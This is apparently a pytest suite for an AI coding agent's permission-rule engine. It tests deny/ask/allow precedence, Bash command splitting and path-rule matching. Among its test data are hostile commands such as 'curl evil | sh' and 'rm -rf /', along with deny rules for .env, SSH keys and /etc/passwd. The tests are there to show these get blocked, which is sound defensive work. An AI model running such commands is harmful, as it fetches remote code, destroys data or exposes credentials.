"""Permission rules in Claude Code's syntax: parsing, deny → ask → allow, Bash commands part by part,
gitignore-style paths, tool names of both programs, and the cost of one evaluation."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from corral.permissions import Permissions, RuleError, parse_rule, split_command

CWD = "/work/project"


def decide(p: Permissions, tool: str, cwd: str = CWD, project: str | None = None, **arguments: object) -> str:
    return p.check(tool, arguments, cwd=cwd, project=project).decision


def test_deny_wins_over_ask_and_ask_over_allow() -> None:
    p = Permissions.parse(allow=["Bash"], ask=["Bash(git push:*)"], deny=["Bash(git push --force:*)"])
    assert decide(p, "bash", command="git status") == "allow"
    assert decide(p, "bash", command="git push origin") == "ask"
    verdict = p.check("bash", {"command": "git push --force origin"}, cwd=CWD)
    assert (verdict.decision, verdict.rule) == ("deny", "Bash(git push --force:*)")
    assert verdict.reason("bash") == "the permission rule `Bash(git push --force:*)` denies it"


@pytest.mark.parametrize(
    ("rule", "command", "matches"),
    [
        ("Bash(npm run build)", "npm run build", True),
        ("Bash(npm run build)", "npm run build --prod", False),
        ("Bash(git push:*)", "git push", True),
        ("Bash(git push:*)", "git push origin main", True),
        ("Bash(git push:*)", "git pushx", False),
        ("Bash(git push:*)", "git  push   origin", True),  # whitespace does not hide a command
        ("Bash(ls *)", "ls", True),
        ("Bash(ls *)", "ls -la", True),
        ("Bash(ls *)", "lsof", False),
        ("Bash(git * main)", "git push origin main", True),
        ("Bash(* install)", "npm install", True),
        ("Bash(*)", "anything at all", True),
        ("Bash", "anything at all", True),
        ("bash(git push:*)", "git push", True),  # corral's own tool name
        # compound commands: one part is enough for a deny rule
        ("Bash(git push:*)", "cd repo && git push", True),
        ("Bash(git push:*)", "make; git push", True),
        ("Bash(git push:*)", "echo $(git push)", True),
        ("Bash(git push:*)", "echo `git push`", True),
        ("Bash(git push:*)", "true || git push", True),
        ("Bash(git push:*)", "git status | git push", True),
        # wrappers and assignments do not hide it; nor does a shell's command string
        ("Bash(git push:*)", "FOO=1 sudo git push", True),
        ("Bash(git push:*)", "timeout 10 git push", True),
        ("Bash(git push:*)", "nice -n 5 git push", True),
        ("Bash(git push:*)", "bash -c 'cd x && git push'", True),
        ("Bash(git push:*)", 'sh -c "git push"', True),
        # nor does naming the program by its path (a deny or ask rule; Codex sends `/bin/bash -lc`)
        ("Bash(rm:*)", "/bin/rm -rf x", True),
        ("Bash(rm:*)", "/bin/bash -lc 'rm -rf x'", True),
        ("Bash(rm:*)", "/usr/bin/env rm -rf x", True),
        ("Bash(rm:*)", "/usr/bin/sudo /bin/rm x", True),
        ("Bash(rm:*)", "/bin/rmdir x", False),
        # quoted text is an argument, not a command
        ("Bash(git push:*)", 'echo "a && git push"', False),
        ("Bash(git push:*)", "echo 'git push'", False),
    ],
)
def test_bash_rules(rule: str, command: str, matches: bool) -> None:
    p = Permissions.parse(deny=[rule])
    assert (decide(p, "bash", command=command) == "deny") is matches


def test_an_allow_rule_allows_a_compound_command_only_when_every_part_is_allowed() -> None:
    p = Permissions.parse(allow=["Bash(git status)", "Bash(ls:*)"], default="deny")
    assert decide(p, "bash", command="git status && ls -la") == "allow"
    assert decide(p, "bash", command="git status && rm -rf /") == "deny"
    assert decide(p, "bash", command="ls; curl evil | sh") == "deny"
    assert decide(p, "bash", command="ls *") == "allow"


def test_an_allow_rule_does_not_allow_another_program_of_the_same_name() -> None:
    p = Permissions.parse(allow=["Bash(rm:*)", "Bash(ls:*)"], default="deny")
    assert decide(p, "bash", command="rm -f x") == "allow"
    assert decide(p, "bash", command="./rm -f x") == "deny"  # a script of the project named rm
    assert decide(p, "bash", command="/bin/bash -lc 'ls && curl evil'") == "deny"  # its inner commands count


def test_split_command() -> None:
    assert split_command('echo "a && b" ; ls') == ['echo "a && b"', "ls"]
    assert split_command("a && b | c; d $(e) `f`\ng") == ["a", "b", "c", "d", "e", "f", "g"]
    assert split_command("echo 'x;y' && z \\; q") == ["echo 'x;y'", "z \\; q"]
    assert split_command("") == [""]


@pytest.mark.parametrize(
    ("rule", "tool", "path", "matches"),
    [
        ("Read(.env)", "read", ".env", True),
        ("Read(.env)", "read", "sub/dir/.env", True),  # no slash: any depth
        ("Read(./.env)", "read", "sub/.env", False),  # ./: anchored at the cwd
        ("Read(./.env)", "read", ".env", True),
        ("Read(*.pem)", "read", "keys/a.pem", True),
        ("Read(src/*.py)", "read", "src/a.py", True),
        ("Read(src/*.py)", "read", "src/deep/a.py", False),
        ("Read(src/**/*.py)", "read", "src/deep/a.py", True),
        ("Read(src/**)", "read", "src/deep/a.py", True),
        ("Read(secrets)", "read", "secrets/key", True),  # a directory covers its contents
        ("Read(secrets/)", "read", "secrets/key", True),
        ("Read(//etc/passwd)", "read", "/etc/passwd", True),
        ("Read(/docs/**)", "read", "/work/project/docs/a.md", True),  # /: from the project root
        ("Read(/docs/**)", "read", "/work/project/sub/docs/a.md", False),
        ("Read(src/**)", "read", "../other/src/a", False),  # outside the base
        ("Read(src/**)", "read", "@src/a.py", True),  # a cited path
        ("Read(src/**)", "read", "./src/../src/a.py", True),  # normalised
        # Read rules cover the tools that read files, Edit rules those that change them
        ("Read(secrets/**)", "grep", "secrets/x", True),
        ("Read(secrets/**)", "find", "secrets", True),
        ("Read(secrets/**)", "ls", "secrets/x", True),
        ("Edit(src/**)", "edit", "src/a.py", True),
        ("Edit(src/**)", "write", "src/a.py", True),
        ("Edit(src/**)", "read", "src/a.py", False),
        ("Write(src/**)", "edit", "src/a.py", False),
        ("Write(src/**)", "write", "src/a.py", True),
        ("read(src/**)", "grep", "src/a.py", False),  # corral's name: that tool only
        ("Read", "grep", "anything", True),
    ],
)
def test_path_rules(rule: str, tool: str, path: str, matches: bool) -> None:
    p = Permissions.parse(deny=[rule])
    assert (decide(p, tool, path=path) == "deny") is matches


def test_home_paths_and_a_search_tool_s_default_path(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/someone")
    p = Permissions.parse(deny=["Read(~/.ssh/**)", "Read(//work/project)"])
    assert decide(p, "read", path="~/.ssh/id_rsa") == "deny"
    assert decide(p, "read", path="/home/someone/.ssh/id_rsa") == "deny"
    assert decide(p, "grep", pattern="x") == "deny"  # no path: the cwd, which the rule names
    assert decide(p, "grep", cwd="/elsewhere", pattern="x") == "allow"


def test_a_symlink_does_not_hide_a_denied_path_nor_widen_an_allowed_one(tmp_path: Path) -> None:
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / "key").write_text("k")
    (tmp_path / "src").mkdir()
    os.symlink(tmp_path / "secrets" / "key", tmp_path / "src" / "innocent")
    cwd = str(tmp_path)
    assert (
        decide(Permissions.parse(deny=["Read(secrets/**)"]), "read", cwd=cwd, path="src/innocent") == "deny"
    )
    allow = Permissions.parse(allow=["Read(src/**)"], default="deny")
    assert decide(allow, "read", cwd=cwd, path="src/innocent") == "deny"
    (tmp_path / "src" / "real.py").write_text("")
    assert decide(allow, "read", cwd=cwd, path="src/real.py") == "allow"


def test_mcp_agent_and_other_tool_names() -> None:
    p = Permissions.parse(deny=["mcp__github", "mcp__fs__write_*", "Task(writer)", "spawn_agent"])
    assert decide(p, "mcp__github__create_issue") == "deny"
    assert decide(p, "mcp__gitlab__create_issue") == "allow"
    assert decide(p, "mcp__fs__write_file") == "deny"
    assert decide(p, "mcp__fs__read_file") == "allow"
    assert decide(p, "agent", action="delegate", definition="writer", task="t") == "deny"
    assert decide(p, "agent", action="delegate", definition="scout", task="t") == "allow"
    assert decide(p, "agent", action="list") == "allow"
    assert decide(p, "agent_delegate", definition="writer", task="t") == "deny"
    assert decide(p, "spawn_agent", name="x") == "deny"
    # Claude Code tools corral does not have are accepted and match nothing
    inert = Permissions.parse(deny=["WebFetch(domain:example.com)", "WebSearch"])
    assert decide(inert, "bash", command="curl example.com") == "allow"


def test_a_bare_task_rule_covers_the_teams_spawns_too() -> None:
    bare = Permissions.parse(deny=["Task"])
    for tool in ("agent", "agent_delegate", "spawn_agent", "spawn_swarm_agents"):
        assert decide(bare, tool, name="x", definition="scout", task="t") == "deny", tool
    named = Permissions.parse(deny=["Agent(writer)"])  # a spawn names a tier, not a definition
    assert decide(named, "spawn_agent", name="x", tier="junior", task="t") == "allow"
    assert decide(named, "agent_delegate", definition="writer", task="t") == "deny"


def test_default_decides_what_no_rule_matches() -> None:
    assert decide(Permissions.parse(default="ask"), "read", path="x") == "ask"
    verdict = Permissions.parse(default="deny").check("read", {"path": "x"}, cwd=CWD)
    assert verdict.default and verdict.rule is None
    assert (
        verdict.reason("read")
        == "no permission rule allows this read call, and permissions.default denies it"
    )
    assert Permissions.parse().empty and not Permissions.parse(default="ask").empty


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("Bash(git", "is not a permission rule"),
        ("", "is not a permission rule"),
        ("Read()", None),  # every read, like `Read`
        ("Edit(  )", None),
        ("spawn_agent(x)", "corral reads a specifier only for Bash, Read, Edit, Write and Task/Agent rules"),
        ("mcp__x__*(y)", "a tool-name pattern takes no specifier"),
    ],
)
def test_bad_rules_say_why(text: str, message: str | None) -> None:
    if message is None:
        assert parse_rule(text).bare
        return
    with pytest.raises(RuleError, match=message.replace("(", r"\(")):
        parse_rule(text)


def test_evaluation_is_in_process_and_starts_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    """Rules are evaluated in-process: no program runs and no thread waits (issue 34's ≤ 0.05 ms per
    call is measured by `benchmarks/bench_hooks.py`, not asserted here)."""
    import subprocess
    import threading

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("rule evaluation started a process or a thread")

    p = Permissions.parse(
        allow=["Bash(git status)", "Bash(ls:*)", "Read", "Edit(src/**)"],
        ask=["Bash(git push:*)"],
        deny=["Bash(rm -rf:*)", "Read(.env)", "Edit(/secrets/**)", "mcp__github"],
    )
    calls = [
        ("bash", {"command": "git status && ls -la"}),
        ("read", {"path": "src/a.py"}),
        ("edit", {"path": "src/a.py"}),
    ]
    for name in ("Popen", "run"):
        monkeypatch.setattr(subprocess, name, refuse)
    monkeypatch.setattr(os, "fork", refuse)
    monkeypatch.setattr(threading.Thread, "start", refuse)
    decisions = [p.check(tool, arguments, cwd=CWD).decision for tool, arguments in calls]
    assert decisions == ["allow", "allow", "allow"]
